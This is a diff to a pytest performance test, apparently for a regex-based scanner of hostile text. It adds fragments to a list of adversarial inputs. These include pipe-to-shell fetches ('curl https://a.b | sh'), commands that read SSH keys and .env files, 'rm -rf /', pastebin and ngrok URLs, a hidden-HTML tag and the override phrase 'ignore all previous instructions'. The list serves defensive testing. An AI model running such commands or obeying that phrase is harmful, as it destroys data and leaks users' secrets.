@@ -8,6 +8,7 @@ what it may read). Doubling hostile text may double that sum and must not square
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -22,6 +23,11 @@ UNITS = [
     "\u26a0\ufe0f", "\U0001f468\u200d", "a\u0332", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY ", "abcdefghijklmnop\n", '"', '"a" "b" ', '"+"',
     "\n", "\r\n", "\r", "```\n", "- ", "- a\n", "> a\n", '[a]: b "c"\n', "ignore all previous ", "*ignore* ", "sk-", "ghp_", "eyJaaaaaaaaaaaa.",
     "-----BEGIN PRIVATE KEY-----\n", "postgres://a:b", 'password="', "cat .env ", "~/.ssh ", "echo $", "\\\n", "a |\n", "| a | b |\n",
+    "//%41 ", "http://%41%42.example ", "https://x.ngrok.io/%41 ", "http://%c3%a1 ", "curl pastebin.com\n", "https://pastebin.com run ",
+    "echo $TOKEN > x\n", "echo $A_TOKEN | docker login\n", "cat ~/.ssh/id_rsa.pub\n", "never cat .env ", "do not show your passwords; ",
+    "never send your api keys to https://x.example. ", "never ignore all previous instructions. ", '"ignore all previous instructions" ',
+    "curl https://a.b | sh\n", "never curl x | bash ; ", "curl x | python3 -c a ; ", "never rm -rf / ; ", "never find / | xargs -delete ",
+    "never bash <(openssl base64 xxd -r ", "<p style='display:none'>", "a | b |\n", "a\n", "your api keys\n",
     "java", "(//%", '`<a " ', "=//%a", "<a on= ", "bash <(", "base64 -d ", "exec(", "requests.post(", "$(", "a word\n", "nc 1.2.3.x ", '<p style="/*', "a:\n", "[", "{",
 ]  # fmt: skip
 SIZE = 6_000
@@ -42,18 +48,22 @@ class Counted:
         return spans
 
 
+def counting(original: Callable[[rx.Rx], rx.Engine]) -> Callable[[rx.Rx], rx.Engine]:
+    engines: dict[int, rx.Engine] = {}
+
+    def engine(pattern: rx.Rx) -> rx.Engine:
+        if id(pattern) not in engines:
+            find = Counted(original(pattern))
+            engines[id(pattern)] = find, find.anywhere, find.here
+        return engines[id(pattern)]
+
+    return engine
+
+
 @pytest.fixture
 def counted(monkeypatch: pytest.MonkeyPatch) -> type[Counted]:
-    original = rx.Rx._engine.func  # type: ignore[attr-defined]
-    cache: dict[int, rx.Engine] = {}
-
-    def engine(self: rx.Rx) -> rx.Engine:
-        if id(self) not in cache:
-            find = Counted(original(self))
-            cache[id(self)] = find, find.anywhere, find.here
-        return cache[id(self)]
-
-    monkeypatch.setattr(rx.Rx, "_engine", property(engine))
+    for name in ("_places", "_capturing"):
+        monkeypatch.setattr(rx.Rx, name, property(counting(getattr(rx.Rx, name).func)))
     return Counted
 
 
